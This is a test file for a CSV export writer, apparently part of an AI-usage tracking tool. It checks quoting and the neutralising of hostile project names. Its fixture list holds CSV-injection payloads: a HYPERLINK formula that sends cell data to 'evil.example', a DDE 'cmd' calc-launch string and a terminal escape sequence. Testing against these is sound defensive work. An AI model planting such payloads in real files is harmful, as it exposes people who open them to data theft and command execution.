/**
The CSV writer (export/csv.ts) on a tree built by the real store and builder from sessions
with hostile names: commas, quotes, line breaks, formula starts (`=`, `+`, `-`, `@`) and
terminal controls. Read back by the test's own RFC 4180 reader (test/support/csv.ts), every
field is what the data said, except that a formula start gets its `'` and a control its
stand-in; `--no-prompts` never reads a prompt (a tree whose prompts throw when read still
exports); an unpriced model leaves `cost_usd` empty.
*/
import {Writable} from 'node:stream';
import {describe, expect, it} from 'vitest';
import type {UsageEvent} from '../../source/core/events.js';
import {type CsvOptions, csvNumber, csvText, writeCsv} from '../../source/export/csv.js';
import type {TreeNode} from '../../source/model/types.js';
import {modelOf} from '../insights/fixtures.js';
import {csvObjects, parseCsv} from '../support/csv.js';
import {call, session, tokens, turn} from '../support/events.js';

async function csvOf(root: TreeNode, options: CsvOptions): Promise<string> {
	let text = '';
	const stream = new Writable({
		write(chunk: Buffer, _encoding, done) {
			text += chunk.toString('utf8');
			done();
		},
	});
	await writeCsv(root, stream, options);
	return text;
}

/** Project names as people and tools really write them, and as an attacker would. */
const hostileProjects = [
	'Acme, Inc.',
	'the "big" refactor',
	'two\nlines',
	'=HYPERLINK("http://evil.example/?q="&A1,"click")',
	'+49 30 1234',
	"-cmd|' /C calc'!A0",
	'@SUM(A1:A9)',
	'tab\tinside',
	'esc\u001B]0;owned\u0007title',
	'日本語プロジェクト 😀',
];

const promptMarker = 'Rename "Invoice", then =SUM(B2:B9)\r\nand ship';

function hostileEvents(): UsageEvent[] {
	return hostileProjects.flatMap((project, index): UsageEvent[] => {
		const id = `s${index}`;
		const time = `2026-03-0${1 + (index % 5)}T10:0${index % 10}:00Z`;
		return [
			session('claude', id, {project}),
			turn('claude', id, `${id}-t1`, time, `${promptMarker} ${index}`),
			call('claude', id, time.replace(':00Z', ':30Z'), {turnId: `${id}-t1`, callId: `msg_${index}`}),
		];
	});
}

/** What a cell written from data must read back as: controls made visible, a formula start made text. */
function expectedCell(value: string): string {
	const inert = value.replace('\u001B', '\u241B').replace('\u0007', '\u2407').replace('\r', '\u240D');
	return /^[=+\-@\t\r]/.test(inert) ? `'${inert}` : inert;
}

describe('CSV writer', () => {
	it('quotes as RFC 4180 asks and reads back to the data, formula starts neutralised', async () => {
		const model = modelOf(hostileEvents());
		const text = await csvOf(model.root, {depth: 'session', prompts: true});
		expect(text.endsWith('\r\n')).toBe(true);
		const rows = csvObjects(text);
		expect(rows.map(row => row['project']).sort()).toEqual(hostileProjects.map(expectedCell).sort());
		expect(rows.find(row => row['project'] === 'Acme, Inc.')!['session_id']).toBe('s0');
		// Nothing a spreadsheet would evaluate starts a text cell.
		for (const row of rows) {
			for (const name of ['agent', 'project', 'session_id', 'models', 'agents']) {
				expect(row[name]!, name).not.toMatch(/^[=+\-@]/);
			}
		}
		// The raw text has no terminal control left: only CR LF record ends and quoted LF.
		expect(text.replaceAll('\r\n', '').replaceAll('\n', '').replaceAll('\t', '')).not.toMatch(/[\u0000-\u001F]/);
	});

	it('writes prompts at turn depth, and without prompts leaves the column empty without reading one', async () => {
		const model = modelOf(hostileEvents());
		const withPrompts = csvObjects(await csvOf(model.root, {depth: 'turn', prompts: true}));
		expect(withPrompts.map(row => row['prompt'])).toContain(expectedCell(`${promptMarker} 3`));

		const reading = {count: 0};
		const guarded = promptGuard(model.root, reading);
		const text = await csvOf(guarded, {depth: 'call', prompts: false});
		const rows = csvObjects(text);
		expect(rows.length).toBe(hostileProjects.length);
		expect(rows.every(row => row['prompt'] === '')).toBe(true);
		expect(text).not.toContain('Invoice');
		expect(reading.count).toBe(0);
		// The guard works: with prompts on, the same tree's prompts are read.
		await expect(csvOf(guarded, {depth: 'turn', prompts: true})).rejects.toThrow('prompt read');
		expect(reading.count).toBeGreaterThan(0);
	});

	it('leaves cost_usd empty for an unpriced model and still counts its tokens', async () => {
		const events: UsageEvent[] = [
			session('claude', 'priced', {project: 'shop'}),
			call('claude', 'priced', '2026-03-02T09:00:00Z'),
			session('claude', 'homebrew', {project: 'lab'}),
			call('claude', 'homebrew', '2026-03-02T10:00:00Z', {model: 'acme-llm-9', tokens: tokens({input: 5000})}),
		];
		const rows = csvObjects(await csvOf(modelOf(events).root, {depth: 'session', prompts: true}));
		const lab = rows.find(row => row['project'] === 'lab')!;
		expect(lab['cost_usd']).toBe('');
		expect(lab['unpriced_tokens']).toBe('5000');
		expect(lab['total_tokens']).toBe('5000');
		expect(Number(rows.find(row => row['project'] === 'shop')!['cost_usd'])).toBeGreaterThan(0);
	});

	it('names each depth with the levels above it, one header row', async () => {
		const model = modelOf(hostileEvents());
		const headers = await Promise.all(
			(['week', 'day', 'session', 'turn', 'call'] as const).map(
				async depth => parseCsv(await csvOf(model.root, {depth, prompts: true}))[0]!,
			),
		);
		expect(headers.map(header => header.slice(0, header.indexOf('first_time')))).toEqual([
			['week'],
			['week', 'date'],
			['week', 'date', 'agent', 'project', 'session_id', 'surface', 'git_branch', 'device'],
			[
				'week',
				'date',
				'agent',
				'project',
				'session_id',
				'surface',
				'git_branch',
				'device',
				'turn_id',
				'turn_time',
				'prompt',
			],
			[
				...['week', 'date', 'agent', 'project', 'session_id', 'surface', 'git_branch', 'device'],
				...['turn_id', 'turn_time', 'prompt', 'time', 'model', 'pricing_key', 'call_id'],
			],
		]);
	});

	it('writes fields and numbers plainly where nothing needs quoting', () => {
		expect(csvText('payments-api')).toBe('payments-api');
		expect(csvText('a,b')).toBe('"a,b"');
		expect(csvText('say "hi"')).toBe('"say ""hi"""');
		expect(csvText('=1+1')).toBe("'=1+1");
		expect(csvText('-1,5')).toBe(`"'-1,5"`);
		expect(csvNumber(0.000_000_001)).toBe('0.000000001');
		expect(csvNumber(62.776_567_1)).toBe('62.7765671');
		expect(csvNumber(1_234_567)).toBe('1234567');
		expect(csvNumber(null)).toBe('');
	});
});

/**
The tree behind proxies whose turn info throws when its `prompt` is read (counting each
read), so a test can tell "left out" from "read, then dropped".
*/
function promptGuard(node: TreeNode, reading: {count: number}): TreeNode {
	return new Proxy(node, {
		// Getters run on the real node (its totals read private fields), not on the proxy.
		get(target, property) {
			if (property === 'children') {
				return target.children.map(child => promptGuard(child, reading));
			}

			if (property === 'turn' && target.turn) {
				return new Proxy(target.turn, {
					get(turnInfo, name) {
						if (name === 'prompt') {
							reading.count++;
							throw new Error('prompt read');
						}

						return Reflect.get(turnInfo, name) as unknown;
					},
				});
			}

			return Reflect.get(target, property) as unknown;
		},
	});
}
